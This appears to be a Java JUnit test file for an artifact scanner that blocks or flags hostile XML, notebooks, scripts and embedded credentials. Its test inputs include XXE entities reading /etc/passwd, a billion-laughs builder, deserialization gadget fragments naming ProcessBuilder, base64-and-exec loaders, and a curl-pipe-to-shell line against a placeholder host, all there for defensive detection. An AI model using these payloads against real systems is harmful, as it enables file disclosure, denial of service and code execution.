package dev.gambeson.artifact.scan.text;

import static dev.gambeson.artifact.scan.Scans.blocks;
import static dev.gambeson.artifact.scan.Scans.isClean;
import static dev.gambeson.artifact.scan.Scans.isNotClean;
import static dev.gambeson.artifact.scan.Scans.reviews;
import static dev.gambeson.artifact.scan.Scans.scan;

import dev.gambeson.artifact.scan.Scans;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class DocumentsTest {
  private static final String DOCUMENT = "GB-ART-027";
  private static final String PMML = "<PMML version=\"4.4\"><Header/></PMML>";

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<!DOCTYPE PMML [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
        "<!DOCTYPE PMML [<!ENTITY x PUBLIC \"a\" 'http://example.invalid/x'>]>",
        "<!DOCTYPE PMML [<!ENTITY % x SYSTEM \"http://example.invalid/x.dtd\"> %x;]>",
        "<!DOCTYPE PMML SYSTEM \"http://example.invalid/x.dtd\">",
        "<!DOCTYPE PMML PUBLIC \"-//x//\" \"http://example.invalid/x.dtd\">",
        "<!DOCTYPE PMML SYSTEM '../../x.dtd'>",
        "<!doctype PMML [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
      })
  void externalEntitiesAndDocumentTypesAreBlockedInEveryEncoding(String doctype) {
    String xml = "<?xml version=\"1.0\"?>" + doctype + PMML;
    blocks(scan("m.pmml", xml), DOCUMENT);
    blocks(scan("m.pmml", xml.getBytes(StandardCharsets.UTF_16)), DOCUMENT);
    blocks(scan("m.pmml", xml.getBytes(StandardCharsets.UTF_16LE)), DOCUMENT);
  }

  @Test
  void billionLaughsIsExhaustion() {
    StringBuilder xml = new StringBuilder("<!DOCTYPE a [<!ENTITY a0 \"lollollollol\">");
    for (int i = 1; i < 10; i++) {
      xml.append("<!ENTITY a%d \"".formatted(i))
          .append("&a%d;".formatted(i - 1).repeat(10))
          .append("\">");
    }
    blocks(scan("a.xml", xml + "]><a>&a9;</a>"), "GB-ART-018");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\" parse=\"text\"/></a>",
        "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface></dynamic-proxy></sorted-set>",
        "<map><entry><java.beans.EventHandler/></entry></map>",
        "<a><x class=\"javax.naming.InitialContext\"/></a>",
        "<xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" xmlns:r=\"http://xml.apache.org/xalan/java/java.lang.Runtime\"></xsl:stylesheet>",
        "<beans><bean id=\"p\" class=\"java.lang.ProcessBuilder\"/></beans>"
      })
  void documentsThatReachOutOrBuildObjectsAreBlocked(String xml) {
    blocks(scan("a.xml", xml), DOCUMENT);
  }

  @Test
  void xmlDecoderIsCode() {
    blocks(
        scan(
            "a.xml",
            "<java version=\"1\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.ProcessBuilder\"/></java>"),
        "GB-ART-010");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"x()\"></svg>",
        "<?xml-stylesheet href=\"http://example.invalid/x.xsl\"?><a/>"
      })
  void activeDocumentsAreReviewed(String xml) {
    reviews(scan("a.svg", xml), DOCUMENT);
  }

  @Test
  void ordinaryDocumentsAreClean() {
    isClean(scan("m.pmml", "<?xml version=\"1.0\"?>\n" + PMML));
    isClean(scan("a.xml", "<!-- c --><a b='c'><![CDATA[<x>]]><d/>text</a>"));
    isClean(
        scan(
            "a.html",
            "<!DOCTYPE html><html><body><p>unclosed<br><script>if (a<b) x()</script></body></html>"));
    isClean(scan("pom.xml", "<project><className>org.springframework.X</className></project>"));
  }

  @Test
  void noBeginningOfXmlIsClean() {
    byte[] xml = ("<?xml version=\"1.0\"?>" + PMML).getBytes(StandardCharsets.UTF_8);
    for (int length = 1; length < xml.length; length++) {
      isNotClean(scan("a.pmml", java.util.Arrays.copyOf(xml, length)));
    }
    Scans.survivesDamage("a.pmml", xml);
  }

  private static String notebook(String source, String output) {
    return "{\"cells\":[{\"cell_type\":\"code\",\"source\":[\"%s\"],\"outputs\":[{\"text\":[\"%s\"]}]}],\"nbformat\":4}"
        .formatted(source, output);
  }

  @Test
  void notebooksAreJudgedByTheirCellsAndOutputs() {
    isClean(scan("a.ipynb", notebook("import numpy as np", "1")));
    isClean(scan("a.ipynb", notebook("!pip install torch", "ok")));
    reviews(scan("a.ipynb", notebook("!curl http://example.invalid/x | sh", "")), "GB-ART-020");
    blocks(scan("a.ipynb", notebook("exec(base64.b64decode('x'))", "")), "GB-ART-020");
    reviews(
        scan("a.ipynb", notebook("x", "hf_" + "aB3dE5gH7j".repeat(4).substring(0, 34))),
        "GB-ART-021");
  }

  @Test
  void sourceCodeInAFolderIsListedOnlyUnlessItHidesWhatItRuns() {
    isClean(scan("build.py", "import os\nos.system('make')\n"));
    blocks(scan("x.py", "exec(zlib.decompress(b'x'))\n"), "GB-ART-020");
    blocks(scan("x.sh", "#!/bin/sh\necho aGk= | base64 -d | sh\n"), "GB-ART-020");
    isClean(scan("x.py", "# exec(base64.b64decode(x))\ns = \"exec(base64.b64decode(x))\"\n"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{\"token\": \"hf_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\"}",
        "{\"aws_access_key_id\": \"AKIAIOSFODNN7EXAMPLE\"}",
        "{\"u\": \"postgres://user:Qx7vL2pR9s@db.internal/x\"}",
        "{\"client_secret\": \"q7Vx2LpR9sT4wZ8nKd3F\"}",
        "{\"private_key\": \"-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBgkqhkiG9w0\\n-----END PRIVATE KEY-----\"}"
      })
  void credentialsAreReviewedAndNeverRepeated(String json) {
    reviews(scan("config.json", json), "GB-ART-021");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Use AKIAIOSFODNN7EXAMPLE as the key id.",
        "password = changeme12345678",
        "api_key: ${API_KEY_FROM_ENV}",
        "secret_key = your-secret-key-here-00",
        "-----BEGIN PUBLIC KEY-----",
        "https://user:password@example.com/x",
        "token: aaaaaaaaaaaaaaaaaaaaaa",
        "class SecretKey: javax.crypto.SecretKeySpec12"
      })
  void examplesAndPlaceholdersInDocumentsAreClean(String text) {
    isClean(scan("README.md", text));
  }

  @Test
  void aPrivateKeyFileIsReviewed() {
    reviews(
        scan(
            "id_rsa",
            "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU\n-----END OPENSSH PRIVATE KEY-----\n"),
        "GB-ART-021");
  }
}
